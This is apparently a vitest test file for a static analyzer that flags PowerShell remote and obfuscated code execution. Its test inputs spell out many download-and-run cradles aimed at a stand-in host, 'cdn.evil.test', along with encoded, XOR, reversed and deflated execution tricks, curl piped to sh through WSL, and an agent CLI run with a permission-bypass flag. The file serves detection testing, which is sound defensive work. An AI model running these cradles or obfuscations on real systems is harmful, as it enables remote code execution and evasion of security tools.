import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { recordEmbeds } from '../../support/behaviours.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * Code execution in PowerShell as an attacker who read our rule docs writes it: download cradles in
 * every spelling (aliases, tick obfuscation, names built from strings and from `$PSHome`, `Get-Command`
 * wildcards, `Set-Alias`), encoded commands, decoded and decompressed payloads, and files downloaded
 * then started.
 */

const shell = recordEmbeds('shell');
const ps = (code: string) => factsOf('powershell', code);
const b64utf16 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('PowerShell: remote code execution (execute with downloaded code)', () => {
  it.each([
    ['iex of iwr content', `iex (iwr https://cdn.evil.test/a.ps1).Content`],
    [
      'the classic WebClient cradle without a space',
      `IEX(New-Object Net.WebClient).DownloadString("https://cdn.evil.test/a.ps1")`,
    ],
    ['irm piped to tick-obfuscated iex', `$u = 'https://' + 'cdn.evil.test/a.ps1'; irm $u | i\`e\`x`],
    [
      'scriptblock made from a download',
      `& ([scriptblock]::Create((New-Object System.Net.WebClient).DownloadString('https://cdn.evil.test/a.ps1')))`,
    ],
    [
      'named parameters, full cmdlet names',
      `Invoke-Expression -Command (Invoke-RestMethod -Uri "https://cdn.evil.test/a.ps1" -UseBasicParsing)`,
    ],
    ['command name in a variable', `$c = 'Invoke-Expression'; & $c (irm https://cdn.evil.test/a.ps1)`],
    ['name formatted with -f', `& ("{1}{0}" -f 'x','ie') (irm https://cdn.evil.test/a.ps1)`],
    ['name sliced from $PSHome', `. ($PSHome[4]+$PSHome[30]+'x') (irm https://cdn.evil.test/a.ps1)`],
    ['Get-Command wildcard', `&(gcm i*x) (irm https://cdn.evil.test/a.ps1)`],
    [
      'an alias defined first',
      `Set-Alias -Name go -Value Invoke-Expression; go (irm https://cdn.evil.test/a.ps1)`,
    ],
    [
      'ExecutionContext.InvokeCommand',
      `$ExecutionContext.InvokeCommand.InvokeScript((Invoke-WebRequest https://cdn.evil.test/a.ps1).Content)`,
    ],
    [
      'HttpClient',
      `$h = [System.Net.Http.HttpClient]::new(); iex $h.GetStringAsync('https://cdn.evil.test/a.ps1').Result`,
    ],
    [
      'a wrapper function',
      `function Run-Remote([string]$Url) {\n  Invoke-Expression (Invoke-RestMethod $Url)\n}\nRun-Remote -Url 'https://cdn.evil.test/a.ps1'`,
    ],
    [
      'powershell -Command in a string',
      `powershell.exe -NoProfile -Command "irm https://cdn.evil.test/a.ps1 | iex"`,
    ],
    [
      'download to a file, then start it',
      `$p = "$env:TEMP\\u.exe"; (New-Object Net.WebClient).DownloadFile('https://cdn.evil.test/u.exe', $p); Start-Process $p`,
    ],
    [
      'BITS transfer then dot-source',
      `Start-BitsTransfer -Source https://cdn.evil.test/a.ps1 -Destination "$env:TEMP\\a.ps1"; Start-Process powershell -ArgumentList "-File $env:TEMP\\a.ps1"`,
    ],
  ])('%s', async (_name, code) => {
    const r = await ps(code);
    const ex = ofKind(r, 'execute').filter((b) => b.code.taints.includes('download'));
    expect(ex.length).toBeGreaterThan(0);
    expect(
      ex.some((b) => b.endpoint?.host === 'cdn.evil.test' || b.code.from?.includes('cdn.evil.test')),
    ).toBe(true);
  });

  it('a module downloaded then imported', async () => {
    const r = await ps(
      `Invoke-WebRequest https://cdn.evil.test/m.psm1 -OutFile m.psm1\nImport-Module .\\m.psm1`,
    );
    expect(ofKind(r, 'execute').map((b) => `${b.via}:${b.code.from}`)).toEqual([
      'Import-Module:https://cdn.evil.test/m.psm1',
    ]);
  });

  it('a file downloaded to a variable path and run keeps the address it came from', async () => {
    const r = await ps(
      `$f = Join-Path $env:TEMP "install-$([guid]::NewGuid()).ps1"\nInvoke-WebRequest -Uri 'https://dot.net/v1/dotnet-install.ps1' -OutFile $f\n& $f -Channel 8.0`,
    );
    expect(ofKind(r, 'execute').map((b) => `${b.via}:${b.endpoint?.host}:${b.endpoint?.cls}`)).toEqual([
      'call operator:dot.net:vendor-installer',
    ]);
  });

  it('local scripts run or dot-sourced are sources the lead follows', async () => {
    const r = await ps(
      `. .\\lib\\common.ps1\n& "$PSScriptRoot\\helper.ps1" -Verbose\n.\\setup.ps1\nImport-Module ./tools/mod.psm1\nImport-Module Az.Accounts`,
    );
    expect(ofKind(r, 'source').map((b) => b.target.text)).toEqual([
      '.\\lib\\common.ps1',
      '.\\helper.ps1',
      '.\\setup.ps1',
      './tools/mod.psm1',
    ]);
  });

  it('mshta and regsvr32 fetching scriptlets', async () => {
    const r = await ps(
      `mshta https://cdn.evil.test/x.hta\nregsvr32 /s /n /u /i:https://cdn.evil.test/x.sct scrobj.dll`,
    );
    expect(ofKind(r, 'execute').map((b) => b.via)).toEqual(['mshta', 'regsvr32']);
  });
});

describe('PowerShell: obfuscated execution (execute with decoded code)', () => {
  const deflated = deflateRawSync(Buffer.from('Write-Output decompressed')).toString('base64');
  it.each([
    [
      '-EncodedCommand',
      `powershell.exe -NoP -W Hidden -EncodedCommand ${b64utf16('Write-Output one')}`,
      'Write-Output one',
    ],
    ['-enc prefix on pwsh', `pwsh -nop -enc ${b64utf16('Write-Output two')}`, 'Write-Output two'],
    [
      '-e with ticks in the program name',
      `po\`wer\`shell -e "${b64utf16('Write-Output three')}"`,
      'Write-Output three',
    ],
    [
      'Unicode GetString of base64',
      `iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${b64utf16('Write-Output four')}')))`,
      'Write-Output four',
    ],
    [
      'UTF8 GetString via variables',
      `$b = [System.Convert]::FromBase64String("${Buffer.from('Write-Output five').toString('base64')}"); $t = [System.Text.Encoding]::UTF8.GetString($b); Invoke-Expression $t`,
      'Write-Output five',
    ],
    [
      '-join of char codes piped to iex',
      `-join [char[]](87,114,105,116,101,45,79,117,116,112,117,116,32,115,105,120) | iex`,
      'Write-Output six',
    ],
    [
      'xor with ForEach-Object',
      `$k = 5; $d = 82,119,108,113,96,40,74,112,113,117,112,113,37,118,96,115,96,107; iex (-join ($d | % { [char]($_ -bxor $k) }))`,
      'Write-Output seven',
    ],
    [
      'reversed by indexing',
      `$r = 'thgie tuptuO-etirW'; iex ($r[-1..-($r.Length)] -join '')`,
      'Write-Output eight',
    ],
    [
      'reversed with [array]::Reverse',
      `$c = 'enin tuptuO-etirW'.ToCharArray(); [array]::Reverse($c); iex (-join $c)`,
      'Write-Output nine',
    ],
    ['-replace junk', `iex ('Wr~ite-Out~put t~en' -replace '~','')`, 'Write-Output ten'],
    [
      'deflate stream',
      `iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${deflated}'), [IO.Compression.CompressionMode]::Decompress)), [Text.Encoding]::ASCII)).ReadToEnd()`,
      'Write-Output decompressed',
    ],
  ])('%s', async (_name, code, decoded) => {
    const r = await ps(code);
    const ex = ofKind(r, 'execute');
    expect(ex.some((b) => b.code.text.includes(decoded))).toBe(true);
    expect(r.units.some((u) => u.origin === 'embedded' && u.lang === 'powershell')).toBe(true);
  });

  it('an encoded command is decoded and analysed as PowerShell (its own download cradle is found)', async () => {
    const r = await ps(
      `powershell -enc ${b64utf16("IEX (New-Object Net.WebClient).DownloadString('https://cdn.evil.test/stage2')")}`,
    );
    expect(ofKind(r, 'decode')[0]!.scheme).toBe('utf16le-base64');
    expect(ofKind(r, 'execute').some((b) => b.endpoint?.host === 'cdn.evil.test')).toBe(true);
  });
});

describe('PowerShell: native programs go to the shell analyzer', () => {
  it.each([
    ['npm global install', `npm install -g evil-pkg`, 'npm install -g evil-pkg'],
    [
      'agent CLI with a bypass flag',
      `claude --dangerously-skip-permissions -p "hi"`,
      'claude --dangerously-skip-permissions -p hi',
    ],
    [
      'curl.exe is not the curl alias',
      `curl.exe -fsSL https://x.evil.test/a.sh -o a.sh`,
      'curl -fsSL https://x.evil.test/a.sh -o a.sh',
    ],
    [
      'bash inside WSL',
      `wsl -d Ubuntu bash -c "curl https://x.evil.test/b | sh"`,
      "bash -c 'curl https://x.evil.test/b | sh'",
    ],
    [
      'pip from a URL',
      `pip install https://x.evil.test/pkg.tar.gz`,
      'pip install https://x.evil.test/pkg.tar.gz',
    ],
  ])('%s', async (_name, code, line) => {
    shell.length = 0;
    await ps(code);
    expect(shell.map((s) => s.replace(/\s+/g, ' '))).toContain(line);
  });
});
